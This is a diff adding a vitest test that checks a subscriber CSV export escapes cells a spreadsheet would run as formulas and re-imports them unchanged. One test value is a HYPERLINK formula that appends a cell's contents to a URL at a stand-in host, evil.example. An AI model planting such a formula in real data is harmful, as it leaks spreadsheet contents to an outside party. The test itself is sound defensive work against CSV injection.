@@ -1,6 +1,7 @@
 import {describe, expect, it} from 'vitest'
 import {importReport, runSubscribersCommand} from '../../src/store/subscribers-command.js'
 import {importSubscribers} from '../../src/store/import-subscribers.js'
+import {parseCsv} from '../../src/store/parse-csv.js'
 import {openStore} from '../../src/store/open-store.js'
 import {addSubscriber, listSubscribers, removeSubscriber} from '../../src/store/subscriber-store.js'
 import {makeDigestNewsroom} from '../support/digest-newsroom.js'
@@ -94,5 +95,32 @@ describe('importSubscribers', () => {
     expect(summary).toMatchObject({added: 1, unsubscribed: 1, rejected: []})
     expect(listSubscribers(again.db).map((s) => s.status)).toEqual(['active', 'unsubscribed'])
     again.close()
+  })
+
+  it('should export no cell a spreadsheet would run as a formula, and import its own export as the values it was made from', async () => {
+    const {config} = await makeDigestNewsroom([])
+    const store = openStore(config.database)
+    const people = [
+      {email: '=1+1@example.com', name: '=HYPERLINK("https://evil.example/?"&A1,"Click")'},
+      {email: '+31@example.com', name: '+31 20 555 0100'},
+      {email: '-ana@example.com', name: '-Ana'},
+      {email: 'at@example.com', name: '@ana'},
+      {email: 'quoted@example.com', name: "'=already quoted"},
+      {email: 'hooft@example.com', name: "'t Hooft"}
+    ]
+    for (const person of people) addSubscriber(store.db, person)
+    store.close()
+    const exported: string[] = []
+    await runSubscribersCommand({action: 'export'}, config, (line) => exported.push(line))
+    const cells = parseCsv(exported.join('\n')).flatMap((record) => record.cells)
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
+    expect(exported).toContain(`'-ana@example.com,'-Ana,,active`)
+    expect(exported).toContain(`quoted@example.com,''=already quoted,,active`)
+    expect(exported).toContain(`hooft@example.com,'t Hooft,,active`)
+    const again = openStore(':memory:')
+    expect(importSubscribers(again.db, exported.join('\n'))).toMatchObject({added: people.length, rejected: []})
+    const imported = listSubscribers(again.db).map(({email, name}) => ({email, name}))
+    again.close()
+    expect(imported.sort((a, b) => a.email.localeCompare(b.email))).toEqual([...people].sort((a, b) => a.email.localeCompare(b.email)))
   })
 })
